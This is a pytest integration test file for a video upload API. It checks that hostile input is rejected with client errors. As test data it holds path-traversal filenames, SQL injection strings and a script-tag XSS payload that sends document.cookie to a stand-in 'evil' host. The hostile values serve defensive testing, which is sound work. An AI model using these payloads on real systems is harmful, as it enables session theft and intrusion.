"""Hostile input never reaches a 500: traversal, control characters, huge numbers, bad JSON."""

from __future__ import annotations

import json

import httpx
import pytest
from fastapi.testclient import TestClient

from reelhouse import keys
from signing_api.deps import Services
from tests.integration.api.conftest import auth

pytestmark = pytest.mark.integration
MIB = 1024 * 1024
FILENAMES = ["../../etc/passwd", "..\\..\\boot.ini", "/abs/path.mp4", "..", ".", "",
             "a\x00b.mp4", "new\nline.mp4", "tab\t.mp4", "esc\x1b[31m.mp4", "rtl\u202e4pm.exe",
             "x" * 10_000, "con\r\n.mp4", " ", "..."]
SIZES = [0, -1, -(2**63), 2**63, 10**40, 1.5, "1e9", None, True]
TITLES = ["T" * 100_000, "\x00", "a\x07b", "zero\u200bwidth", None, 5, ["list"]]


@pytest.fixture(scope="module")
def user_token(make_user) -> str:
    return make_user()[1]


def _client_error(response) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:200])
    assert response.json()["error"]


def test_hostile_filenames_are_refused_everywhere(client: TestClient, user_token: str) -> None:
    """Traversal, control and bidi characters in filenames are a 4xx on every upload route."""
    for name in FILENAMES:
        _client_error(client.post("/api/v1/uploads", headers=auth(user_token), json={
            "filename": name, "size": 10, "content_type": "video/mp4"}))
        for path in ("/api/videos/presign-upload/", "/api/videos/multipart/init/"):
            _client_error(client.post(path, headers=auth(user_token), json={
                "filename": name, "content_type": "video/mp4"}))


def test_hostile_sizes_are_refused(client: TestClient, user_token: str) -> None:
    """Zero, negative, astronomically large and non-integer sizes are a 4xx."""
    for size in SIZES:
        _client_error(client.post("/api/v1/uploads", headers=auth(user_token), json={
            "filename": "a.mp4", "size": size, "content_type": "video/mp4"}))


def test_part_numbers_0_and_10001_are_refused(client: TestClient, user_token: str) -> None:
    """Part numbers outside 1..10000 (and outside the upload) are a 4xx on both APIs."""
    out = client.post("/api/v1/uploads", headers=auth(user_token), json={
        "filename": "a.mp4", "size": 12 * MIB, "content_type": "video/mp4"}).json()
    for number in (0, 10001, -1, 2**40, 4, "1; DROP TABLE videos"):
        _client_error(client.post(f"/api/v1/uploads/{out['video_id']}/parts",
                                  headers=auth(user_token),
                                  json={"parts": [{"part_number": number}]}))
    init = client.post("/api/videos/multipart/init/", headers=auth(user_token)).json()
    for number in (0, 10001):
        _client_error(client.post("/api/videos/multipart/presign/", headers=auth(user_token),
                                  json={**init, "part_number": number}))


def test_huge_and_control_titles_are_refused(client: TestClient, user_token: str,
                                             make_user, make_video) -> None:
    """A 100 KB title, control characters or a non-string title is a 4xx wherever titles go."""
    owner, token = make_user()
    video = make_video(owner)
    for title in TITLES:
        _client_error(client.post("/api/v1/uploads", headers=auth(user_token), json={
            "filename": "a.mp4", "size": 10, "content_type": "video/mp4", "title": title}))
        _client_error(client.patch(f"/api/v1/videos/{video.id}", headers=auth(token),
                                   json={"title": title}))
        _client_error(client.post("/api/videos/", headers=auth(user_token),
                                  json={"title": title, "s3_key": "raw/x/source"}))


def test_html_titles_are_stored_and_returned_as_text(client: TestClient, user_token: str,
                                                     services: Services) -> None:
    """Script in a title survives a real upload unchanged and is only ever JSON text."""
    title = "<script>fetch('//evil/'+document.cookie)</script>&amp;"
    out = client.post("/api/v1/uploads", headers=auth(user_token), json={
        "filename": "a.mp4", "size": 3, "content_type": "video/mp4", "title": title}).json()
    assert httpx.put(out["put"]["url"], content=b"abc",
                     headers=out["put"]["headers"]).status_code == 200
    done = client.post(f"/api/v1/uploads/{out['video_id']}/complete", headers=auth(user_token))
    assert done.json()["title"] == title
    assert done.headers["content-type"] == "application/json"
    assert services.storage.head(keys.source_key(out["video_id"]))["ContentType"] == "video/mp4"


def test_malformed_json_everywhere_is_a_400(client: TestClient, user_token: str,
                                            make_user, make_video) -> None:
    """Every route that takes a body answers 400 to broken or wrongly shaped JSON."""
    owner, token = make_user()
    video = make_video(owner)
    routes = [("POST", "/api/v1/auth/token"), ("POST", "/api/auth/token/"),
              ("POST", "/api/v1/uploads"), ("POST", f"/api/v1/uploads/{video.id}/parts"),
              ("PATCH", f"/api/v1/videos/{video.id}"), ("POST", "/api/videos/"),
              ("POST", "/api/videos/presign-upload/"), ("POST", "/api/videos/multipart/init/"),
              ("POST", "/api/videos/multipart/presign/"),
              ("POST", "/api/videos/multipart/complete/"),
              ("POST", "/api/videos/multipart/abort/")]
    bodies = [b"{", b'{"a": }', b"\xff\xfe\x00", b"[1, 2", b"[]", b'"string"', b"1e999999",
              b'{"title": "\\ud800", "filename": "\\udfff"}', b"{" * 5000]
    for method, path in routes:
        for body in bodies:
            if path.endswith("multipart/init/") and body.startswith(b'{"'):
                continue  # a well-formed object: the starter's init takes no required field
            response = client.request(method, path, content=body, headers={
                **auth(token), "Content-Type": "application/json"})
            assert 400 <= response.status_code < 500, (method, path, body[:20],
                                                       response.status_code)


def test_lone_surrogates_in_text_fields_are_refused(client: TestClient,
                                                   user_token: str) -> None:
    """JSON escapes for lone surrogates (not encodable as UTF-8) are a 400, not a DB crash."""
    for field in ("title", "filename", "description"):
        body = {"filename": "a.mp4", "size": 1, "content_type": "video/mp4", "title": "t"}
        raw = json.dumps({**body, field: "PLACEHOLDER"}).replace("PLACEHOLDER", "\\ud800")
        _client_error(client.post("/api/v1/uploads", content=raw.encode(), headers={
            **auth(user_token), "Content-Type": "application/json"}))


def test_hostile_ids_and_query_strings(client: TestClient, user_token: str) -> None:
    """Odd ids, cursors and filters are a 4xx (or an empty page), never a crash."""
    for path in ("/api/v1/videos/%00", "/api/v1/videos/..%2F..%2Fraw",
                 "/api/videos/' OR 1=1 --/presign-download/",
                 "/api/v1/play/%00/1/x/hls/master.m3u8",
                 "/api/v1/play/01ARZ3NDEKTSV4RRFFQ69G5FAV/99999999999999999999999/x/hls/m.m3u8",
                 "/api/v1/play/01ARZ3NDEKTSV4RRFFQ69G5FAV/-5/x/hls/master.m3u8"):
        _client_error(client.get(path, headers=auth(user_token)))
    for params in ({"cursor": "../../x"}, {"limit": 10**9}, {"q": "x" * 1000},
                   {"status": "<b>"}, {"owner": "%"}, {"q": "%_\\"}):
        response = client.get("/api/v1/videos", params=params)
        assert response.status_code in (200, 400), params
